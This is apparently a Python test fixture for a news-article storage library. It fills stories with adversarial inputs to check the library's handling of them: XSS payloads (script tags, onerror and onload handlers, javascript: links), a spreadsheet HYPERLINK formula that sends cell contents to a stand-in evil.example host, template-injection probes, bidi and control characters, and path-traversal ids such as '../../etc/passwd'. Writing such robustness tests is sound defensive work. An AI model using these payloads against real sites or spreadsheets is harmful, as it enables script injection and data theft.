"""A desk of stories that mean harm: markup wherever words may stand, ids that look like paths, texts that never end."""

from pathlib import Path
from typing import Any

import dateline
from dateline.desk.ingesting.runs import begin_run, end_run
from dateline.desk.saving.rows import rows_of
from dateline.desk.saving.writing import ArticleWriter
from dateline.desk.storage.transactions import transaction
from dateline.model import Article, Block, Fact, Field, Finding, Source
from dateline.record import Record
from dateline.settings import Settings
from dateline.values import (
    Casualties,
    Charge,
    Dateline,
    Event,
    Mention,
    Moment,
    Organisation,
    Person,
    Place,
    Publication,
    Role,
    Span,
    Statement,
    Value,
)

HACK = "window.hacked=1"
SCRIPT = f"<script>{HACK}</script>"
IMAGE = f'"\'><img src=x onerror="{HACK}">'
SVG = f"</textarea></title></style><svg onload={HACK}><a xlink:href='javascript:{HACK}'>"
LINK = f"javascript:{HACK}//"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
TEMPLATE = "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>"
BROKEN = "<figure><figcaption>Seen <b>here <a href='x' <i>& &amp &#x3c;script&#x3e; <!-- <![CDATA["
BIDI = "\u202eمرحبا \u2066\u202dabc\u2069 שלום\u202c \u200f\u2067"
CONTROLS = "bell\x07 zero\x00 escape\x1b[31m feed\x0c \x85\x9f \ufffe\uffff\ufdd0 tab\t"
LONG = 2 * 2**20
ODD_IDS = (
    "a/b/c", "..", ".", "../../etc/passwd", "what?words=1", "part#one", "100%", "%2e%2e%2f", "x.json", "x.csv.geojson",
    "😀 ü\u202e", " blank ", "a\nb", "a\x00b", "//evil.example/x", "\\evil", "<b>", '"', "n" * 3000, "+", "&amp;", ";",
)  # fmt: skip
"""Ids that a row of JSON may bring along."""


class Story:
    """An article whose every word is the given one, with facts of each kind; one event at a point, one in a country."""

    def __init__(
        self, name: str, odd: str, *, body: str = "", day: str = "2031-04-02", at: tuple[float, float] = (55.6, 8.4)
    ) -> None:
        roles = {"headline": odd, "deck": odd, "byline": odd, "paragraph": f"{odd} said: {odd}. {body}", "caption": odd}
        text, blocks = "", []
        for role, words in roles.items():
            blocks.append(Block(role, len(text), len(text) + len(words)))  # type: ignore[arg-type]
            text += words + "\n\n"
        source = Source(location=LINK if odd == LINK else odd, media_type="text/html", outlet=odd)
        fields = tuple(
            Field(name, odd, odd) for name in ("headline", "deck", "byline", "section", "url", "tag", "image")
        )
        self._words, self._at = odd, blocks[3].start
        self.record = Record(
            Article(id=name, source=source, text=text, blocks=tuple(blocks), language="en", fields=fields)
        )
        self._tell(day, *at)

    def add(self, value: Value, **cells: Any) -> Fact:
        return self.record.add(self.record.fact(value, self._span, **cells))

    @property
    def _span(self) -> Span:
        return Span(self._at, self._at + len(self._words))

    def _tell(self, day: str, lat: float, lon: float) -> None:
        odd, span = self._words, self._span
        mentions = (Mention(start=span.start, end=span.end),)
        moment = self.add(Moment(type="DATE", timex=odd, earliest=day, latest=day, precision="day"))
        self.add(Publication(published=moment.id, headline=odd, deck=odd, outlet=odd, agency=odd, url=odd, tags=(odd,)))
        exact: dict[str, Any] = {"lat": lat, "lon": lon, "country": "DNK", "precision": "exact"}
        place = self.add(Place(name=odd, admin1=odd, feature=odd, mentions=mentions, **exact))
        somewhere = self.add(Place(name=f"{odd} land", country="DNK", precision="country", mentions=mentions))
        self.add(Dateline(place=place.id, date=moment.id, agency=odd, raw=odd))
        person = self.add(Person(name=odd, aliases=(odd, FORMULA), country=odd, sector=odd, mentions=mentions))
        other = self.add(Person(name=f"Ana {odd}", country="DNK", mentions=mentions))
        body = self.add(Organisation(name=odd, aliases=(odd,), country="DNK", sector="GOV", mentions=mentions))
        self.add(Role(person=person.id, title=odd, organisation=body.id, country=odd, since=moment.id))
        said = self.add(
            Statement(speaker=person.id, content=(span,), manner="direct", addressee=body.id, occasion=span)
        )
        self._tell_events(moment.id, (place.id, somewhere.id), person.id, other.id, said.id)
        self.add(Charge(accused=person.id, by=body.id, offences=(odd,), stage="sentenced", sentence=odd))
        self.record.keep(Finding(check="odd", severity="warning", message=odd, spans=(span,), facts=(person.id,)))

    def _tell_events(self, when: str, where: tuple[str, ...], actor: str, other: str, said: str) -> None:
        odd, span = self._words, self._span
        for number, kind in enumerate(("ASSAULT", odd)):
            event = Event(type=kind, modes=(odd,), contexts=(odd,), trigger=span, actors=(actor,), recipients=(other,),
                          instruments=(span,), when=when, where=where[number : number + 1])  # fmt: skip
            told = self.add(event, reason=odd)
            self.add(Casualties(effect="killed", low=3, high=10**30, best=5, group=odd, event=told.id), said_by=said)


def hostile_desk(folder: Path) -> Path:
    """A desk of all of them, merged, in this folder."""
    words = (SCRIPT, IMAGE, SVG, LINK, FORMULA, TEMPLATE, BROKEN, BIDI, CONTROLS)
    stories = [Story(f"odd-{number}-{copy}", odd) for number, odd in enumerate(words) for copy in "ab"]
    stories += [Story(name, f"Odd id {number}") for number, name in enumerate(ODD_IDS)]
    stories += [Story("long", "Long", body="word " * (LONG // 5)), Story("unbroken", "Unbroken", body="x" * LONG)]
    return desk_of(folder / "hostile.db", stories)


def desk_of(path: Path, stories: list[Story]) -> Path:
    """A desk of these, merged."""
    with dateline.open(path, create=True) as desk:
        run = begin_run(desk.writer, "ingest", [], Settings())
        writer = ArticleWriter(desk.writer, run)
        for story in stories:
            with transaction(desk.writer):
                assert writer.save(rows_of(story.record), story.record.article.id.encode()) == "added"
        end_run(desk.writer, run, "done")
        desk.merge()
    return path
